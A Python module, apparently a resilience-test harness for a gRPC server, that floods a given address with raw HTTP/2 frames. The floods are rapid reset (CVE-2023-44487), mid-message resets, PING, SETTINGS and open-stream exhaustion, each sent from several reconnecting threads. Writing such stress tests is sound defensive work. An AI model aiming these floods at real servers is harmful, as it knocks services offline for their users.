"""HTTP/2 flood attacks on a server, run in a process of their own; imports little, to start quickly."""

import socket
import struct
import threading
from contextlib import suppress
from typing import Any

ATTACKERS = 4
RECONNECT_S = 1.0
"""Seconds after which a disconnected attacker reconnects."""
JUDGE = "/memecourt.v1.Court/Judge"

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0, 1, 3, 4, 6, 7
END_HEADERS, ACK = 4, 1
MAX_CONCURRENT_STREAMS = 3
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, body=b""):
    """Returns an HTTP/2 frame (RFC 9113, section 4.1)."""
    return struct.pack(">I", len(body))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + body


def hpack_string(text):
    """Returns an HPACK string literal of less than 127 bytes (RFC 7541, section 5.2)."""
    return bytes([len(text)]) + text.encode()


CALL = (
    b"\x83\x86"  # POST, http
    + b"\x04" + hpack_string(JUDGE)
    + b"\x01" + hpack_string("localhost")
    + b"\x00" + hpack_string("content-type") + hpack_string("application/grpc")
    + b"\x00" + hpack_string("te") + hpack_string("trailers")
)  # fmt: skip


def reset(number):
    """Returns a call that is reset at once (CVE-2023-44487)."""
    stream = 2 * number + 1
    return frame(HEADERS, END_HEADERS, stream, CALL) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


def reset_in_mid_message(number):
    """Returns a call that is reset after the beginning of a message declared as large."""
    stream = 2 * number + 1
    message = b"\0" + struct.pack(">I", 16_000_000) + bytes(64)
    body = frame(DATA, 0, stream, message)
    return frame(HEADERS, END_HEADERS, stream, CALL) + body + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


def ping(number):
    return frame(PING, 0, 0, struct.pack(">Q", number))


def settings(number):
    return frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535 + number % 2))


def headers_only(number):
    """Returns a call that is left open; many of them exceed the limit of concurrent calls."""
    return frame(HEADERS, END_HEADERS, 2 * number + 1, CALL)


FLOODS = {each.__name__: each for each in (reset, reset_in_mid_message, ping, settings, headers_only)}


class Attacker(threading.Thread):
    """Sends frames as fast as the server takes them, reconnecting as needed, until ``over`` is set."""

    def __init__(self, address, attack):
        super().__init__(daemon=True)
        host, _, port = address.rpartition(":")
        self.place = host, int(port)
        self.frames = attack
        self.sent = self.connections = 0
        self.over = threading.Event()

    def run(self):
        while not self.over.is_set():
            with suppress(OSError), socket.create_connection(self.place, timeout=10) as connection:
                self.connections += 1
                reader = threading.Thread(target=drain, args=(connection,), daemon=True)
                reader.start()
                connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
                for first in range(0, 100_000, 100):
                    if self.over.is_set():
                        break
                    connection.sendall(b"".join(self.frames(number) for number in range(first, first + 100)))
                    self.sent += 100
            self.over.wait(RECONNECT_S)


def drain(connection):
    with suppress(OSError):
        while connection.recv(65536):
            pass


def flood(address: str, kind: str, least: int, pipe: Any) -> None:
    """Attacks until told to stop and until each attacker has sent ``least`` more; reports counts at start and end."""
    attackers = [Attacker(address, FLOODS[kind]) for _ in range(ATTACKERS)]
    for attacker in attackers:
        attacker.start()
    while not all(attacker.sent for attacker in attackers):
        attackers[0].over.wait(0.01)
    begun = [attacker.sent for attacker in attackers]
    pipe.send(begun)
    pipe.recv()
    while not all(attacker.sent >= early + least for attacker, early in zip(attackers, begun, strict=True)):
        attackers[0].over.wait(0.01)
    for attacker in attackers:
        attacker.over.set()
    for attacker in attackers:
        attacker.join(10)
    pipe.send([attacker.sent for attacker in attackers])
